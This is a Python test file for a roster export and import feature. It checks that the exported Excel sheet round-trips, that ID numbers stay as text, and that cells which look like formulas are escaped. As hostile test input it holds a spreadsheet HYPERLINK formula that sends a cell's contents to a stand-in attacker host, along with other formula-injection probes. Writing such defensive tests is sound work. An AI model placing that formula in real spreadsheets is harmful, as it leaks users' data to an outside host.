"""Roster export: what an officer opens in Excel is the roster, every field under titles
the import reads back, ID numbers kept as text, and nothing that runs as a formula."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.domain import idnumber
from desktop.domain.demo import fill_demo
from desktop.domain.members import add_member
from desktop.domain.roster_export import export_roster
from desktop.domain.roster_import import RowStatus, import_plan, preview
from desktop.store.workspace import Workspace

COMPARED = (
    "name",
    "former_names",
    "gender",
    "ethnicity",
    "birth_date",
    "id_kind",
    "id_number",
    "native_place",
    "education",
    "work_unit",
    "post",
    "phone",
    "applied_date",
    "joined_date",
    "full_date",
    "category",
    "status",
    "party_post",
    "group_id",
    "formal_unit",
    "nationality",
    "status_date",
    "floating",
    "hardship",
)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"点我")'


def members(ws: Workspace) -> list[tuple[object, ...]]:
    rows = ws.records.query("members", order_by="id_number, name")
    # Phones come back without the spaces some were typed with ("+971 50…").
    return sorted(
        tuple("".join(r[k].split()) if k == "phone" and r[k] else r[k] for k in COMPARED)
        for r in rows
    )


@pytest.mark.parametrize("language", ["zh", "en"])
def test_export_then_import_gives_the_same_members(
    workspace: Callable[..., Workspace], tmp_path: Path, language: str
) -> None:
    source = workspace("source")
    fill_demo(source, 60, seed=3, today=date(2025, 3, 14))
    path = tmp_path / f"roster-{language}.xlsx"
    assert export_roster(source, path, language=language) == 60
    expected = members(source)

    target = workspace("target")
    # The same groups (by name) exist in the branch the roster moves to.
    groups = source.records.query("org_units", "level = 'group'")
    with target.records.transaction():
        for g in groups:
            target.records.insert(
                "org_units",
                {"name": g["name"], "level": "group", "parent_id": target.org_id},
                owner_org=target.org_id,
                row_id=g["id"],
            )
    plan = preview(target, path)
    assert plan.file_problems == []
    assert {r.status for r in plan.rows} == {RowStatus.OK}, [
        (r.row, [p.message for p in r.problems]) for r in plan.rows if r.problems
    ]
    assert import_plan(target, plan).imported == 60
    assert members(target) == expected


def test_formulas_are_escaped_and_id_numbers_stay_text(
    workspace: Callable[..., Workspace], tmp_path: Path
) -> None:
    ws = workspace()
    number = idnumber.make("110105", date(1988, 7, 1), 12)
    add_member(ws, {"name": HOSTILE, "id_number": number, "phone": "+8613800138000"})
    add_member(ws, {"name": "@SUM(1+1)", "post": "-2+3"})
    path = tmp_path / "roster.xlsx"
    export_roster(ws, path)

    sheet = load_workbook(path).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    by_name = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    hostile = by_name["'" + HOSTILE]
    assert hostile[0].data_type == "s"
    at = header.index("身份证号")
    assert hostile[at].value == number and hostile[at].data_type == "s"
    assert hostile[at].number_format == "@"
    assert hostile[header.index("联系电话")].value == "'+8613800138000"
    other = by_name["'@SUM(1+1)"]
    assert other[header.index("职务")].value == "'-2+3"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    # Read back, the escape is undone: the name is the text that was typed.
    target = workspace("target")
    plan = preview(target, path)
    names = {r.values["name"] for r in plan.rows if r.values}
    assert HOSTILE in names
